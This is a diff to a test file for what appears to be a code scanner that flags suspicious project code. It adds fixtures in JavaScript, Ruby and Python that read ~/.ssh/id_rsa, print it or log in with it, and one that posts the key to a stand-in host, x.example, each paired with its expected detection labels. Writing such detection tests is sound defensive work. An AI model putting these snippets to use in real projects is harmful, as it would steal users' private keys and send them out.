@@ -195,11 +195,30 @@ describe('findings', () => {
       ['send:data https://x.example/c', 'unknown project code reads secrets or the environment and talks to the network'],
     ],
     [
+      'a key that is shown',
+      'javascript',
+      "const fs = require('fs')\nconsole.log(fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'))\n",
+      ['unknown project code reads a private key', 'read ~/.ssh/id_rsa'],
+    ],
+    [
+      'a key that is shown',
+      'ruby',
+      'puts File.read(File.expand_path("~/.ssh/id_rsa"))\n',
+      ['unknown project code reads a private key', 'read ~/.ssh/id_rsa'],
+    ],
+    [
+      'a key to log in with',
+      'javascript',
+      "const { Client } = require('ssh2')\nnew Client().connect({ privateKey: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') })\nconsole.log('ok')\n",
+      ['unknown project code reads a private key'],
+    ],
+    [
       'keys sent off',
       'python',
       'import requests, os\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.example", json={"k": key})\n',
       [
         'unknown project code reads a private key',
+        'read ~/.ssh/id_rsa',
         'send:data https://x.example',
         'unknown project code reads secrets or the environment and talks to the network',
       ],
